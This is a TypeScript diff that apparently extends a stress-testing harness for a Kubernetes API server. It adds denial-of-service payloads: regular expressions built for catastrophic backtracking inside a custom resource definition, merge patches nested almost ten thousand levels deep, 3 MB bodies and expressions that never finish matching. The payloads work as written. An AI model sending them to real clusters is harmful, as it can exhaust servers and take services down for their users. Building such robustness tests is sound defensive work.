@@ -129,6 +129,27 @@ function yamlBomb(): string {
   return `apiVersion: v1\nkind: ConfigMap\nmetadata: {name: bomb}\n${lines.join('\n')}\n`;
 }
 
+/** A definition whose default has to be matched against what brings other engines of regular expressions to a halt. */
+function definitionOfBombs(): unknown {
+  const properties = Object.fromEntries(
+    ['^(a+)+$', '^(a|aa)+$', '(.*a){20}', '^([a-z]+)*x$'].map((pattern, index) => [
+      `p${index}`,
+      { type: 'string', pattern, default: `${'a'.repeat(5_000)}!` },
+    ]),
+  );
+  const duration = { type: 'string', format: 'duration', default: '1'.repeat(5_000) };
+  const schema = { openAPIV3Schema: { type: 'object', properties: { ...properties, duration } } };
+  return {
+    metadata: { name: 'bombs.hostile.example' },
+    spec: {
+      group: 'hostile.example',
+      scope: 'Namespaced',
+      names: { plural: 'bombs', kind: 'Bomb' },
+      versions: [{ name: 'v1', served: true, storage: true, schema }],
+    },
+  };
+}
+
 const webSocketFrame = (opcode: number, bytes: number) =>
   Buffer.concat([
     Buffer.from([0x80 | opcode, 0xff]),
@@ -216,6 +237,43 @@ export const attacks: Readonly<Record<string, Attack>> = {
         Array.from({ length: 5_000 }, () => ({ op: 'copy', from: '/data', path: '/metadata/annotations' })),
       ),
   }),
+  'merge patches that nest': bodies('PATCH', `${BIG}/m0`, {
+    type: 'application/merge-patch+json',
+    body: () => `{"data":${'{"a":'.repeat(9_900)}1${'}'.repeat(9_900)}}`,
+  }),
+  'bodies of 3 MB': bodies('POST', `${MAPS}?dryRun=All`, {
+    type: 'application/json',
+    body: () => `{"metadata":{"name":"large"},"data":{"a":"${'x'.repeat(900_000)}"},"x":[${'1,'.repeat(1_000_000)}1]}`,
+  }),
+  'names that patterns take long for': bodies('POST', `${MAPS}?dryRun=All`, {
+    type: 'application/json',
+    body: () => {
+      const names = Array.from({ length: 500 }, (_, index) => [
+        `${'a-'.repeat(100)}.${'1'.repeat(60)}${index}!`,
+        '1h'.repeat(50),
+      ]);
+      return JSON.stringify({ metadata: { name: `${'a'.repeat(200)}!`, annotations: Object.fromEntries(names) } });
+    },
+  }),
+  'definitions whose patterns take long': bodies(
+    'POST',
+    '/apis/apiextensions.k8s.io/v1/customresourcedefinitions?dryRun=All',
+    {
+      type: 'application/json',
+      body: () => JSON.stringify(definitionOfBombs()),
+    },
+  ),
+  'expressions that match without end': bodies(
+    'POST',
+    '/apis/admissionregistration.k8s.io/v1/validatingadmissionpolicies?dryRun=All',
+    {
+      type: 'application/json',
+      body: () => {
+        const expression = `'${'a'.repeat(20_000)}!'.matches('^(a+)+$') && ${"'x'.matches('(x*)*y') || ".repeat(50)}true`;
+        return JSON.stringify({ metadata: { name: 'bomb' }, spec: { validations: [{ expression }] } });
+      },
+    },
+  ),
   'long headers of lists': (target, signal) =>
     repeat(target, signal, () =>
       head(
